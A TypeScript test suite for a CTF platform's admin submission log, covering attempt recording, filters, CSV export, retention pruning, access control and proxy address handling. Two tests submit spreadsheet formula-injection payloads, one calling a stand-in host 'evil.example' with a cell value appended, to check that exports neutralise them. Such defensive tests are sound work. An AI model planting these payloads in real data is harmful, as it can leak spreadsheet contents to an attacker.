import { MESSAGES } from '@ctf/contract';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildTestApp, type TestClient } from '../../../test/build-test-app.js';
import { addChallenge, makeTeam, openSite } from '../../../test/compete.js';
import { testDatabaseKinds } from '../../../test/databases.js';
import { startedEvent, type StartedEvent } from '../../../test/fixtures.js';
import { connectDatabase } from '../../db/connect.js';
import { listSubmissionRows } from './submission-log.repo.js';
import { flushSubmissionLog, pruneSubmissionLog } from './submission-log.service.js';

interface Row {
  _id: string;
  time: string;
  username: string;
  team: string;
  challenge: string;
  result: string;
  submitted?: string;
  address: string;
}

for (const kind of testDatabaseKinds()) {
  describe(`submission log on ${kind}`, () => {
    let t: StartedEvent<'alice', 'boss'>;
    let admin: TestClient;
    let alice: TestClient;

    beforeEach(async () => {
      t = await startedEvent({ kind, admins: ['boss'], users: ['alice'] });
      admin = t.admin;
      alice = t.users.alice;
    });
    afterEach(async () => {
      await t.close();
    });

    const submit = (client: TestClient, id: number, flag: string, headers: Record<string, string> = {}) =>
      client.post('/api/ctf/submit-flag', { challenge_id: id, flag }, headers);
    const log = async (query = ''): Promise<{ rows: Row[]; next_cursor: string | null }> => {
      await flushSubmissionLog(t.ctx);
      const res = await admin.get(`/api/admin/submissions${query}`);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      return res.body;
    };

    it('writes the attempts still waiting in memory when the app closes gracefully', async () => {
      const c = await addChallenge(t, { name: 'Closing' });
      for (const flag of ['first-wrong', 'second-wrong'])
        expect((await submit(alice, c.id, flag)).body).toMatchObject({ message: MESSAGES.incorrectFlag });
      await t.app.close();
      const database = await connectDatabase(t.config.database);
      try {
        const rows = await database.db
          .selectFrom('submissions')
          .select(['submitted'])
          .orderBy('id')
          .execute();
        expect(rows.map((r) => r.submitted)).toEqual(['first-wrong', 'second-wrong']);
      } finally {
        await database.close();
      }
    });

    it('records every attempt with its result, the team at that moment and the address; text for wrong ones only', async () => {
      const teamId = await makeTeam(t, 'Red', [alice.user!.id]);
      const c = await addChallenge(t, { name: 'Logged' });
      const limited = await addChallenge(t, { name: 'Limited', max_attempts: 1 });
      const long = 'w'.repeat(200); // the longest a flag may be (FLAG_MAX_LENGTH); kept whole
      expect((await submit(alice, c.id, long)).body).toMatchObject({ message: MESSAGES.incorrectFlag });
      t.clock.advance(1000);
      expect((await submit(alice, c.id, c.flag)).body).toEqual({ message: MESSAGES.correctFlag });
      // The correct row is written with the solve, before any flush.
      const direct = await t.ctx.database.db.selectFrom('submissions').select(['result']).execute();
      expect(direct.map((r) => r.result)).toEqual(['correct']);
      t.clock.advance(1000);
      expect((await submit(alice, c.id, c.flag)).status).toBe(409);
      t.clock.advance(1000);
      await submit(alice, limited.id, 'nope');
      t.clock.advance(1000);
      expect((await submit(alice, limited.id, limited.flag)).status).toBe(403);

      const { rows } = await log();
      expect(rows.map((r) => [r.result, r.challenge])).toEqual([
        ['no_attempts_left', 'Limited'],
        ['wrong', 'Limited'],
        ['already_solved', 'Logged'],
        ['correct', 'Logged'],
        ['wrong', 'Logged'],
      ]);
      expect(rows.every((r) => r.username === 'alice' && r.team === 'Red' && r.address === '127.0.0.1')).toBe(
        true,
      );
      expect(rows[4]!.submitted).toBe(long.slice(0, 200));
      expect(rows[1]!.submitted).toBe('nope');
      expect(rows.filter((r) => r.submitted !== undefined)).toHaveLength(2);
      expect(JSON.stringify(rows)).not.toContain(c.flag);
      expect(teamId).toBeGreaterThan(0);
    });

    it('logs rate-limited attempts, and a teamless user as None', async () => {
      const c = await addChallenge(t, { name: 'Guess' });
      for (let i = 0; i < 11; i++) await submit(alice, c.id, `guess-${i}`);
      const { rows } = await log('?result=rate_limited');
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ team: 'None', result: 'rate_limited' });
      expect(rows[0]!.submitted).toBeUndefined();
    });

    it('filters by user, team, challenge, result, text and time, and pages newest first with a cursor', async () => {
      const bob = await t.login('bob');
      await makeTeam(t, 'Blue', [bob.user!.id]);
      const a = await addChallenge(t, { name: 'Alpha' });
      const b = await addChallenge(t, { name: 'Beta' });
      const start = t.clock.now().toISOString();
      for (let i = 0; i < 3; i++) {
        await submit(alice, a.id, `alice-a-${i}`);
        t.clock.advance(60_000);
        await submit(bob, b.id, `bob-b-${i}`);
        t.clock.advance(60_000);
      }
      const middle = new Date(Date.parse(start) + 3 * 60_000).toISOString();

      expect((await log('?user=alice')).rows.map((r) => r.submitted)).toEqual([
        'alice-a-2',
        'alice-a-1',
        'alice-a-0',
      ]);
      expect((await log('?team=Blue')).rows).toHaveLength(3);
      expect((await log('?challenge=Alpha')).rows.every((r) => r.challenge === 'Alpha')).toBe(true);
      expect((await log('?q=b-1')).rows.map((r) => r.submitted)).toEqual(['bob-b-1']);
      expect((await log(`?from=${encodeURIComponent(middle)}`)).rows).toHaveLength(3);
      expect((await log(`?to=${encodeURIComponent(middle)}`)).rows).toHaveLength(3);
      expect((await log('?user=alice&result=correct')).rows).toHaveLength(0);

      const first = await log('?limit=4');
      expect(first.rows).toHaveLength(4);
      const second = await log(`?limit=4&cursor=${first.next_cursor}`);
      expect(second.next_cursor).toBeNull();
      const times = [...first.rows, ...second.rows].map((r) => r.time);
      expect(times).toHaveLength(6);
      expect([...times].sort().reverse()).toEqual(times);
    });

    it("shows just a signal's evidence rows with ids=, in the CSV too, and refuses a malformed list", async () => {
      const c = await addChallenge(t, { name: 'Evidence' });
      for (let i = 0; i < 4; i++) {
        await submit(alice, c.id, `try-${i}`);
        t.clock.advance(1000);
      }
      const all = (await log()).rows;
      const picked = [all[3]!._id, all[1]!._id];
      const page = await log(`?ids=${picked.join(',')}`);
      expect(page.rows.map((r) => r.submitted)).toEqual(['try-2', 'try-0']);
      expect((await log(`?ids=${picked.join(',')}&q=try-0`)).rows.map((r) => r._id)).toEqual([all[3]!._id]);
      const csv = await admin.get(`/api/admin/submissions.csv?ids=${picked.join('%2C')}`);
      expect(csv.status).toBe(200);
      expect(
        csv.text
          .trim()
          .split('\n')
          .slice(1)
          .map((l) => l.split(',')[0]),
      ).toEqual([all[1]!._id, all[3]!._id]);
      for (const bad of ['1,,2', 'abc', '0', Array.from({ length: 201 }, (_, i) => i + 1).join(',')]) {
        const res = await admin.get(`/api/admin/submissions?ids=${bad}`);
        expect(res.status, bad).toBe(400);
        expect(JSON.stringify(res.body)).toContain('ids');
      }
      expect((await alice.get(`/api/admin/submissions?ids=${picked.join(',')}`)).status).toBe(403);
    });

    it('a text search reads a bounded window and goes on from where it stopped', async () => {
      const c = await addChallenge(t, { name: 'Scan' });
      for (let i = 0; i < 7; i++) {
        await submit(alice, c.id, i === 1 ? 'needle' : `hay-${i}`);
        t.clock.advance(1000);
      }
      await flushSubmissionLog(t.ctx);
      const db = t.ctx.database.db;
      const dialect = t.ctx.database.dialect;
      // Newest first: hay-6 hay-5 hay-4 | hay-3 hay-2 needle | hay-0, three rows a window.
      const first = await listSubmissionRows(db, dialect, { q: 'needle' }, { limit: 10, budget: 3 });
      expect(first.rows).toEqual([]);
      expect(first.scannedTo).not.toBeNull();
      const second = await listSubmissionRows(
        db,
        dialect,
        { q: 'needle' },
        {
          limit: 10,
          budget: 3,
          after: first.scannedTo!,
        },
      );
      expect(second.rows.map((r) => r.submitted)).toEqual(['needle']);
      const third = await listSubmissionRows(
        db,
        dialect,
        { q: 'needle' },
        {
          limit: 10,
          budget: 3,
          after: second.scannedTo!,
        },
      );
      expect(third).toEqual({ rows: [], scannedTo: null });
    });

    it('exports the filtered rows as CSV, formulas neutralised', async () => {
      const c = await addChallenge(t, { name: 'Csv' });
      await submit(alice, c.id, '=HYPERLINK("http://evil")');
      await submit(alice, c.id, 'plain, with comma');
      await flushSubmissionLog(t.ctx);
      const res = await admin.get('/api/admin/submissions.csv?result=wrong');
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      const lines = res.text.trim().split('\n');
      expect(lines[0]).toBe('id,time,username,team,challenge,result,submitted,address');
      expect(lines).toHaveLength(3);
      expect(lines[1]).toContain('"plain, with comma"');
      expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil"")"`);
      expect(
        (await admin.get('/api/admin/submissions.csv?result=correct')).text.trim().split('\n'),
      ).toHaveLength(1);
    });

    it('prunes wrong attempts older than the retention, keeping correct ones', async () => {
      const c = await addChallenge(t, { name: 'Old' });
      await submit(alice, c.id, 'old-guess');
      await submit(alice, c.id, c.flag);
      await flushSubmissionLog(t.ctx);
      t.clock.advance(89 * 24 * 3600 * 1000);
      expect(await pruneSubmissionLog(t.ctx)).toBe(0);
      t.clock.advance(2 * 24 * 3600 * 1000);
      expect(await pruneSubmissionLog(t.ctx)).toBe(1);
      admin = await t.login('boss', { admin: true });
      expect((await log()).rows.map((r) => r.result)).toEqual(['correct']);
    });

    it('takes the retention from the settings store: an admin’s change applies at the next run, no restart', async () => {
      const c = await addChallenge(t, { name: 'Kept' });
      await submit(alice, c.id, 'ten-days-old');
      await flushSubmissionLog(t.ctx);
      t.clock.advance(10 * 24 * 3600 * 1000);
      // The environment's value (SUBMISSION_RETENTION_DAYS, 90) is the setting's first value.
      const settings = await admin.get('/api/admin/settings');
      expect(settings.body.submissionRetentionDays).toBe(90);
      expect(await pruneSubmissionLog(t.ctx)).toBe(0);
      for (const [value, field] of [
        [-1, 'submissionRetentionDays'],
        [3651, 'submissionRetentionDays'],
        [1.5, 'submissionRetentionDays'],
      ] as const) {
        const bad = await admin.post('/api/admin/settings', { submissionRetentionDays: value });
        expect(bad.status).toBe(400);
        expect(bad.body.message).toContain(field);
      }
      expect(await pruneSubmissionLog(t.ctx)).toBe(0);
      const saved = await admin.post('/api/admin/settings', { submissionRetentionDays: 7 });
      expect(saved.status, JSON.stringify(saved.body)).toBe(200);
      expect(saved.body.settings.submissionRetentionDays).toBe(7);
      expect(await pruneSubmissionLog(t.ctx)).toBe(1);
      admin = await t.login('boss', { admin: true });
      alice = await t.login('alice');
      expect((await log()).rows).toEqual([]);
      // 0 keeps every attempt.
      await submit(alice, c.id, 'kept-for-ever');
      await flushSubmissionLog(t.ctx);
      await admin.post('/api/admin/settings', { submissionRetentionDays: 0 });
      t.clock.advance(4000 * 24 * 3600 * 1000);
      expect(await pruneSubmissionLog(t.ctx)).toBe(0);
      admin = await t.login('boss', { admin: true });
      expect((await log()).rows.map((r) => r.submitted)).toEqual(['kept-for-ever']);
      const audit = await admin.get('/api/admin/audit?action=settings.update');
      expect(JSON.stringify(audit.body.rows[0].details)).toContain('submissionRetentionDays');
    });

    it('is for admins only and names the bad field', async () => {
      expect((await t.visitor().get('/api/admin/submissions')).status).toBe(401);
      expect((await alice.get('/api/admin/submissions')).status).toBe(403);
      expect((await alice.get('/api/admin/submissions.csv')).status).toBe(403);
      for (const [query, field] of [
        ['?result=bogus', 'result'],
        ['?from=yesterday', 'from'],
        ['?limit=0', 'limit'],
        ['?cursor=abc', 'cursor'],
      ]) {
        const res = await admin.get(`/api/admin/submissions${query}`);
        expect(res.status).toBe(400);
        expect(res.body.message).toContain(field);
      }
    });
  });
}

describe('client address', () => {
  it('ignores X-Forwarded-For unless TRUST_PROXY names the proxy', async () => {
    for (const [env, expected] of [
      [{}, '127.0.0.1'],
      [{ TRUST_PROXY: '10.0.0.0/8' }, '127.0.0.1'],
      [{ TRUST_PROXY: 'loopback' }, '203.0.113.9'],
    ] as const) {
      const t = await buildTestApp('sqlite', env);
      try {
        const admin = await t.login('boss', { admin: true });
        const alice = await t.login('alice');
        await openSite(t);
        const c = await addChallenge(t, { name: 'Addr' });
        await alice.post(
          '/api/ctf/submit-flag',
          { challenge_id: c.id, flag: 'x' },
          { 'x-forwarded-for': '203.0.113.9' },
        );
        await flushSubmissionLog(t.ctx);
        const rows = (await admin.get('/api/admin/submissions')).body.rows as Row[];
        expect(rows.map((r) => r.address)).toEqual([expected]);
      } finally {
        await t.close();
      }
    }
  });

  it('takes a forwarded address only when it is an IP address, and in one spelling', async () => {
    const t = await buildTestApp('sqlite', { TRUST_PROXY: 'loopback' });
    try {
      const admin = await t.login('boss', { admin: true });
      const alice = await t.login('alice');
      await openSite(t);
      const c = await addChallenge(t, { name: 'Forwarded' });
      const sent = [
        'x'.repeat(3000),
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        '::ffff:7.7.7.7',
        '7.7.7.7',
        '2001:0DB8:0:0::0001',
        '203.0.113.9, not-an-address',
      ];
      for (const forwarded of sent)
        await alice.post(
          '/api/ctf/submit-flag',
          { challenge_id: c.id, flag: 'x' },
          { 'x-forwarded-for': forwarded },
        );
      await flushSubmissionLog(t.ctx);
      const rows = (await admin.get('/api/admin/submissions')).body.rows as Row[];
      // Newest first; junk falls back to the connection's own address.
      expect(rows.map((r) => r.address).reverse()).toEqual([
        '127.0.0.1',
        '127.0.0.1',
        '7.7.7.7',
        '7.7.7.7',
        '2001:db8::1',
        '127.0.0.1',
      ]);
    } finally {
      await t.close();
    }
  });

  it('never writes a submitted text to the server log', async () => {
    const lines: string[] = [];
    const t = await buildTestApp(
      'sqlite',
      { LOG_LEVEL: 'trace' },
      { logStream: { write: (l) => lines.push(l) } },
    );
    try {
      const alice = await t.login('alice');
      await openSite(t);
      const c = await addChallenge(t, { name: 'Quiet' });
      await alice.post('/api/ctf/submit-flag', { challenge_id: c.id, flag: 'canary-wrong-text-42' });
      await flushSubmissionLog(t.ctx);
    } finally {
      await t.close();
    }
    expect(lines.join('\n')).not.toContain('canary-wrong-text-42');
  });
});
